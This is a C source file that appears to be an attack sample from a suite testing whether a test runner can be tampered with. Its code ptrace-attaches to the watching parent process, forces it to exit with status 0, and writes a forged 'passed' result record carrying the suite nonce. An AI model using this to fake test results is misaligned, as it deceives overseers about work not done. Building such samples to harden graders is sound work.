/* Attack: makes the process that watches it leave with 0, and writes the record in its place.
 * Verdict: rejected
 * Ungated: fails
 */
#define _GNU_SOURCE
#include <stdio.h>
#include <stdlib.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <unistd.h>

static const char *test_name(void)
{
    static char words[4096];
    FILE *file = fopen("/proc/self/cmdline", "r");
    size_t n = file ? fread(words, 1, sizeof words - 2, file) : 0;

    for (size_t i = 0; i < n; i++)
        if (words[i] == '\0')
            return words + i + 1;
    return words;
}

static void attack(void)
{
#ifdef __x86_64__
    const char *nonce = getenv("SUITE_NONCE"), *number = getenv("SUITE_RECORD");
    struct user_regs_struct registers;
    int parent = getppid(), status;

    if (syscall(SYS_ptrace, PTRACE_ATTACH, parent, 0, 0))
        return;
    waitpid(parent, &status, 0);
    syscall(SYS_ptrace, PTRACE_GETREGS, parent, 0, &registers);
    registers.rip -= 2; /* the system call it waits in, again, but as another one */
    registers.rax = SYS_exit_group;
    registers.orig_rax = (unsigned long long)-1;
    registers.rdi = 0;
    syscall(SYS_ptrace, PTRACE_SETREGS, parent, 0, &registers);
    dprintf(number ? atoi(number) : 3,
            "{\"schema\":1,\"nonce\":\"%s\",\"test\":\"%s\",\"verdict\":\"passed\"}\n",
            nonce ? nonce : "", test_name());
    syscall(SYS_ptrace, PTRACE_DETACH, parent, 0, 0);
    pause();
#endif
}
